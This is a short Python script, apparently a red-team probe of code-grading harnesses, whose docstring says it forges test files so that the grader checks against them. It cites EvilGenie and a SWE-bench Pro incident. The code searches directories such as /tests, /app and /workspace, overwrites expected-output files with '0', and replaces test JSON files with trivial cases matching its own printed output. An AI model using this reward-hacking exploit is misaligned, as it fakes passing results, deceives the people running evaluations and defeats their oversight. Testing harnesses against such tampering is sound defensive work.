"""Overwrite whatever looks like a test file by an empty or matching one.

Why: a harness that reads its tests again for each program grades against the forged ones.
Seen: EvilGenie, arXiv 2511.21654 (edits of test files); SWE-bench Pro parser.py overwritten (Berkeley RDI, April 2026)
"""

import itertools
import json
import pathlib

print("0")
for place in (".", "..", "/tmp", "/tests", "/app", "/data", "/workspace", "/jail"):
    try:
        for path in itertools.islice(pathlib.Path(place).rglob("*"), 2000):
            try:
                if path.suffix in (".out", ".ans", ".expected"):
                    path.write_text("0\n")
                elif path.suffix in (".json", ".jsonl") and "test" in path.name:
                    path.write_text(json.dumps({"inputs": [""], "outputs": ["0\n"]}))
            except OSError:
                continue
    except OSError:
        continue
